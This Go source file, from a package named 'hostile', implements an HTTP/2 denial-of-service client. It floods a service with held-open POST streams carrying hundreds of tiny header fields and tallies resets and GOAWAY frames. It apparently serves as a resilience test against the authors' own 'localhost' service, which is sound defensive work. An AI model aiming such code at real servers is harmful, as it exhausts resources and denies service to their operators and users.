//go:build linux

package hostile

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	streamConns   = 60
	streamsOfConn = 250
	smallFields   = 850
)

// attackStreams holds HTTP/2 connections with open POST streams.
func attackStreams(ctx context.Context, a *attacker, rate float64) {
	pace := newPacer(rate)
	defer pace.Stop()
	var running sync.WaitGroup
	for i := range streamConns {
		running.Go(func() {
			for pace.wait(ctx) {
				a.holdStreams(ctx, i)
				if !sleep(ctx, time.Second) {
					return
				}
			}
		})
	}
	running.Wait()
}

// holdStreams opens streams on one connection until the service closes it.
func (a *attacker) holdStreams(ctx context.Context, kind int) {
	conn, err := a.dial(ctx, "h2")
	if err != nil {
		return
	}
	defer conn.Close()
	a.count("connections")
	conn.SetWriteDeadline(time.Now().Add(time.Minute))
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return
	}
	framer := http2.NewFramer(conn, conn)
	var writing sync.Mutex
	if err := framer.WriteSettings(); err != nil {
		return
	}
	closed := make(chan struct{})
	go func() {
		defer close(closed)
		a.readFrames(framer, &writing)
	}()
	a.openStreams(ctx, framer, &writing, kind, closed)
}

// openStreams opens streamsOfConn streams, and then another one each 100 ms in
// place of those that were refused.
func (a *attacker) openStreams(ctx context.Context, f *http2.Framer, writing *sync.Mutex, kind int, closed <-chan struct{}) {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for n := 0; ; n++ {
		if n >= streamsOfConn {
			select {
			case <-closed:
				return
			case <-ctx.Done():
				return
			case <-time.After(100 * time.Millisecond):
			}
		}
		block.Reset()
		a.encodeHeader(encoder, kind)
		writing.Lock()
		err := writeHeaders(f, uint32(2*n+1), block.Bytes())
		writing.Unlock()
		if err != nil {
			a.count("closed while sending")
			return
		}
		a.count("streams")
	}
}

// encodeHeader encodes a POST request with many small fields: distinct ones,
// equal ones, which take a byte each on the wire, or none.
func (a *attacker) encodeHeader(e *hpack.Encoder, kind int) {
	field := func(name, value string) { e.WriteField(hpack.HeaderField{Name: name, Value: value}) }
	field(":method", "POST")
	field(":scheme", "https")
	field(":authority", "localhost")
	field(":path", "/ingest")
	if a.Key != "" {
		field("authorization", "Bearer "+a.Key)
	}
	for i := range smallFields {
		switch kind % 3 {
		case 0:
			field(fmt.Sprintf("a%d", i), "")
		case 1:
			field("a", "")
		}
	}
}

// writeHeaders sends a header block, in frames of at most 16 KiB. The stream
// stays open.
func writeHeaders(f *http2.Framer, stream uint32, block []byte) error {
	first := block[:min(len(block), 16<<10)]
	block = block[len(first):]
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: first, EndHeaders: len(block) == 0})
	for err == nil && len(block) > 0 {
		next := block[:min(len(block), 16<<10)]
		block = block[len(next):]
		err = f.WriteContinuation(stream, len(block) == 0, next)
	}
	return err
}

// readFrames answers settings, and counts what the service refuses, until the
// connection is closed.
func (a *attacker) readFrames(f *http2.Framer, writing *sync.Mutex) {
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			return
		}
		switch frame := frame.(type) {
		case *http2.SettingsFrame:
			if !frame.IsAck() {
				writing.Lock()
				f.WriteSettingsAck() // if this fails, so does the next read
				writing.Unlock()
			}
		case *http2.RSTStreamFrame:
			a.count("reset " + frame.ErrCode.String())
		case *http2.GoAwayFrame:
			a.count("go away " + frame.ErrCode.String())
		case *http2.HeadersFrame:
			a.count("responses")
		}
	}
}
